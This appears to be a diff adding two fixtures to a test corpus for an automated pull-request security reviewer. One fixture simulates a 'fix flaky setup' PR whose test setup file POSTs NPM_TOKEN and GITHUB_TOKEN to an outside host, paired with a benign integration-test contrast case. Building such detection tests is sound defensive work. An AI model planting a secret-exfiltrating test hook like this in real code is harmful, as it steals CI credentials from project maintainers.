@@ -1860,4 +1860,53 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['mixed-script-string'] },
   },
+  {
+    id: 'attack-test-setup-posts-token',
+    description:
+      'A "test: fix flaky setup" PR makes the test setup file POST NPM_TOKEN and GITHUB_TOKEN to an ordinary-looking host: tests run in CI with the job\'s secrets on every pull request.',
+    fixture: () =>
+      attackPr({
+        repo: 'widgets-ui',
+        number: 7169,
+        title: 'test: fix flaky setup',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'test/setup.ts',
+            base: lines("import { beforeAll } from 'vitest';", 'beforeAll(() => {', "  process.env.TZ = 'UTC';", '});'),
+            head: lines(
+              "import { beforeAll } from 'vitest';",
+              'beforeAll(async () => {',
+              "  process.env.TZ = 'UTC';",
+              "  await fetch('https://telemetry.widgets-ci.dev/ready', { method: 'POST', body: JSON.stringify({ t: process.env.NPM_TOKEN, g: process.env.GITHUB_TOKEN }) });",
+              '});',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['suspicious-network-endpoint'] },
+  },
+  {
+    id: 'attack-integration-test-authenticates',
+    description: "A maintainer's integration test calls the project's own API with the CI token in its Authorization header.",
+    fixture: () =>
+      attackPr({
+        repo: 'widgets-ui',
+        number: 7170,
+        title: 'test: cover issue creation against the API',
+        files: [
+          {
+            path: 'test/integration/issues.test.ts',
+            head: lines(
+              "import { it, expect } from 'vitest';",
+              "it('creates an issue', async () => {",
+              "  const res = await fetch('https://api.github.com/repos/acme/widgets-ui/issues', { method: 'POST', headers: { authorization: `token ${process.env.GITHUB_TOKEN}` }, body: JSON.stringify({ title: 'integration' }) });",
+              '  expect(res.status).toBe(201);',
+              '});',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:suspicious-network-endpoint'] },
+  },
 ];
